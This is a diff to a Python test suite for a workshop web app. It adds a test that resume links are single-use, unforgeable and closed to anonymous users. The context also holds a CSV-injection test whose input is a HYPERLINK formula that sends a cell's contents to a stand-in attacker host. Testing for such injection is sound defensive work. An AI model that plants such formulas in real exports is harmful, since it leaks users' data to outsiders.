@@ -7,6 +7,7 @@ ended."""
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
 import re
@@ -359,6 +360,23 @@ def test_the_results_csv_carries_no_formulas(room, instructor):
     assert "'=HYPERLINK" in {row["name"][:11] for row in rows}
     assert not [row["name"] for row in rows if row["name"][:1] in "=+-@"]
     assert '=HYPERLINK("http://ev.il/?"&A2,"x")' in {r["name"] for r in results}   # JSON keeps it as it is
+
+
+def test_a_resume_link_makes_another_device_the_same_learner_once(room, instructor):
+    laptop = seated(room, "Grace H")
+    r = laptop.get(f"{room.url}/workshop/resume-link", timeout=10)
+    url = re.search(r"<code>(http[^<]+)</code>", r.text).group(1)
+    assert "/join/resume/" in url
+    phone = requests.Session()
+    assert phone.get(url, timeout=10).url.endswith(f"/labs/{TEST_LAB}")
+    assert [l["name"] for l in api(room, instructor)["learners"] if l["place"] == "seated"] == ["Grace H"]
+    assert "Grace H" in phone.get(f"{room.url}/workshop/me", timeout=10).text
+    # once only, for this workshop only, and not forged
+    again = requests.Session().get(url, timeout=10)
+    assert again.status_code == 403 and "used already" in html.unescape(again.text)
+    forged = requests.Session().get(url[:-3] + ("aaa" if not url.endswith("aaa") else "bbb"), timeout=10)
+    assert forged.status_code == 403 and "not valid" in forged.text
+    assert requests.get(f"{room.url}/workshop/resume-link", timeout=10).status_code == 403   # anonymous
 
 
 @pytest.mark.slow
